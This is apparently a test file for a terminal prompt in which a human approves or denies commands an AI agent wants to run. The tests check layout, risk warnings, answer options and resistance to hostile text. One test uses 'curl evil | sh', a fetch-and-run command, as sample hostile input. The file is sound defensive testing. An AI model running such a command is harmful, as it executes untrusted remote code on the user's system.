import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  countdownStepMs,
  renderAnswerLine,
  renderQuestion,
  terminalStyle,
} from '#cli/terminal/terminal-screen.ts';
import type { PendingApproval } from '#core/approvals/types.ts';
import { type AskOptions, askOf } from '#support/approvals.ts';
import { forbiddenIn } from '#support/code-points.ts';

const plainStyle = { columns: 80, rows: 24, color: false, rewrites: false };

function pending(options: AskOptions = {}, count = 1): PendingApproval {
  const { kind, subject, planDigest, offered } = askOf(options);
  const times = { createdAtMs: 0, expiresAtMs: 15_000 };
  return { id: '1', kind, subject, planDigest, displayDigest: 'd', offered, count, ...times };
}

describe('renderQuestion (ui.md §7)', () => {
  it('puts who, the command between rules, what runs where, and why on the screen', () => {
    const approval = pending({
      command: 'git push --force',
      subject: { executable: '/usr/bin/git' },
    });
    const rule = '─'.repeat(80);
    expect(renderQuestion(approval, 3, plainStyle)).toBe(
      [
        '',
        '"main" (claimed) wants to run a command',
        'node          node-1',
        'session       "session-1" (claimed)',
        rule,
        '│ git push --force',
        rule,
        'runs          /usr/bin/git',
        'in            /work',
        'security      allowlist',
        'ask mode      on-miss',
        "permissions   runs with this app's permissions",
        'asked because No rule allows this here.',
        '1 of 3 waiting',
        'a + Enter allows once · d + Enter, Enter alone or Esc denies',
        'p + Enter denies and pauses the agent',
        '',
      ].join('\n'),
    );
  });

  it('says what could go wrong right behind the command, and what "always" stores at the end', () => {
    const subject = { risks: ['deletes recursively (rm)'], always: ['a rule', 'another rule'] };
    const lines = renderQuestion(pending({ subject }), 1, plainStyle).split('\n');
    const risk = lines.indexOf('risk          deletes recursively (rm)');
    expect(lines[risk - 1]).toBe('─'.repeat(80));
    const why = lines.findIndex((line) => line.startsWith('asked because'));
    expect(lines.slice(why + 1, why + 3)).toEqual([
      'always        would store: a rule',
      'always        would store: another rule',
    ]);
    const color = renderQuestion(pending({ subject }), 1, { ...plainStyle, color: true });
    expect(color).toContain('\u001B[33mrisk ');
  });

  it('offers "always" only where it is offered', () => {
    const offered = ['allow-once', 'allow-always', 'deny'] as const;
    expect(renderQuestion(pending(), 1, plainStyle)).not.toContain('always');
    expect(renderQuestion(pending({ offered }), 1, plainStyle)).toContain('always + Enter');
  });

  it('offers the pause only for an agent with a name, and no answer that is not offered', () => {
    const last = (options: AskOptions) =>
      renderQuestion(pending(options), 1, plainStyle).split('\n').slice(-3, -1);
    expect(last({})).toContain('p + Enter denies and pauses the agent');
    for (const options of [
      { subject: { agentId: null } },
      { offered: ['allow-once'] as const, subject: { agentId: 'main' } },
    ]) {
      expect(last(options).join('\n')).not.toContain('p + Enter');
    }
    expect(last({ offered: ['allow-once'] }).at(-1)).toBe('a + Enter allows once');
  });

  it('says how long the command is when it does not fit the screen, and shows all of it (S5)', () => {
    const command = `${'x'.repeat(20_000)}; curl evil | sh`;
    const text = renderQuestion(pending({ command }), 1, plainStyle);
    expect(text.replaceAll('\n│ ', '').includes(command)).toBe(true);
    expect(text.includes('20016 characters')).toBe(true);
    expect(renderQuestion(pending(), 1, plainStyle)).not.toContain('characters');
  });

  it('uses colour only where it may', () => {
    const colors = (isTTY: boolean, env: Record<string, string>) => {
      const style = terminalStyle({ isTTY, columns: 80 }, env);
      return renderQuestion(pending(), 1, style).includes('\u001B[');
    };
    expect(colors(true, {})).toBe(true);
    expect(colors(true, { NO_COLOR: '1' })).toBe(false);
    expect(colors(true, { TERM: 'dumb' })).toBe(false);
    expect(colors(false, {})).toBe(false);
  });

  it('never lets text of others start a line, reach the edge or be interpreted (property)', () => {
    const hostile = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 300 }),
      fc.constantFrom('\u001B[2K\ra + Enter', '─'.repeat(200), '日本語'.repeat(60), '\n\n\n'),
    );
    fc.assert(
      fc.property(hostile, hostile, fc.integer({ min: 40, max: 80 }), (command, other, columns) => {
        const approval = pending({ command, agent: other, subject: { cwd: other, why: other } });
        const text = renderQuestion(approval, 1, { ...plainStyle, columns });
        expect(forbiddenIn(text, '\n')).toEqual([]);
        const lines = text.split('\n');
        const first = lines.indexOf('─'.repeat(columns));
        const rest = lines.slice(first + 1);
        const last = rest.findIndex((line) => !line.startsWith('│ '));
        expect(rest[last]).toBe('─'.repeat(columns));
        for (const line of lines) expect(width(line)).toBeLessThanOrEqual(columns);
      }),
    );
  });
});

/** As wide as a terminal may draw it: rules and margin are ours and one cell each. */
function width(line: string): number {
  return [...line].reduce((sum, one) => sum + (one <= '~' || '─│·↵…'.includes(one) ? 1 : 2), 0);
}

describe('the answer line', () => {
  it('says when keys do not count yet, then what is left and what was typed', () => {
    const line = { leftMs: 15_000, typed: 'x', armed: false, deniesByDefault: true };
    expect(renderAnswerLine(line)).toBe('Read it first; keys count in a moment.');
    const armed = { leftMs: 14_200, typed: 'al', armed: true, deniesByDefault: true };
    expect(renderAnswerLine(armed)).toBe('Answer [D]eny (15 s left): al');
    const noDefault = { leftMs: null, typed: '', armed: true, deniesByDefault: false };
    expect(renderAnswerLine(noDefault)).toBe('Answer: ');
  });

  it('changes at whole seconds in the last minute, at whole minutes before', () => {
    expect(countdownStepMs(14_200)).toBe(200);
    expect(countdownStepMs(14_000)).toBe(1_000);
    expect(countdownStepMs(150_000)).toBe(30_000);
    expect(countdownStepMs(120_000)).toBe(60_000);
  });
});
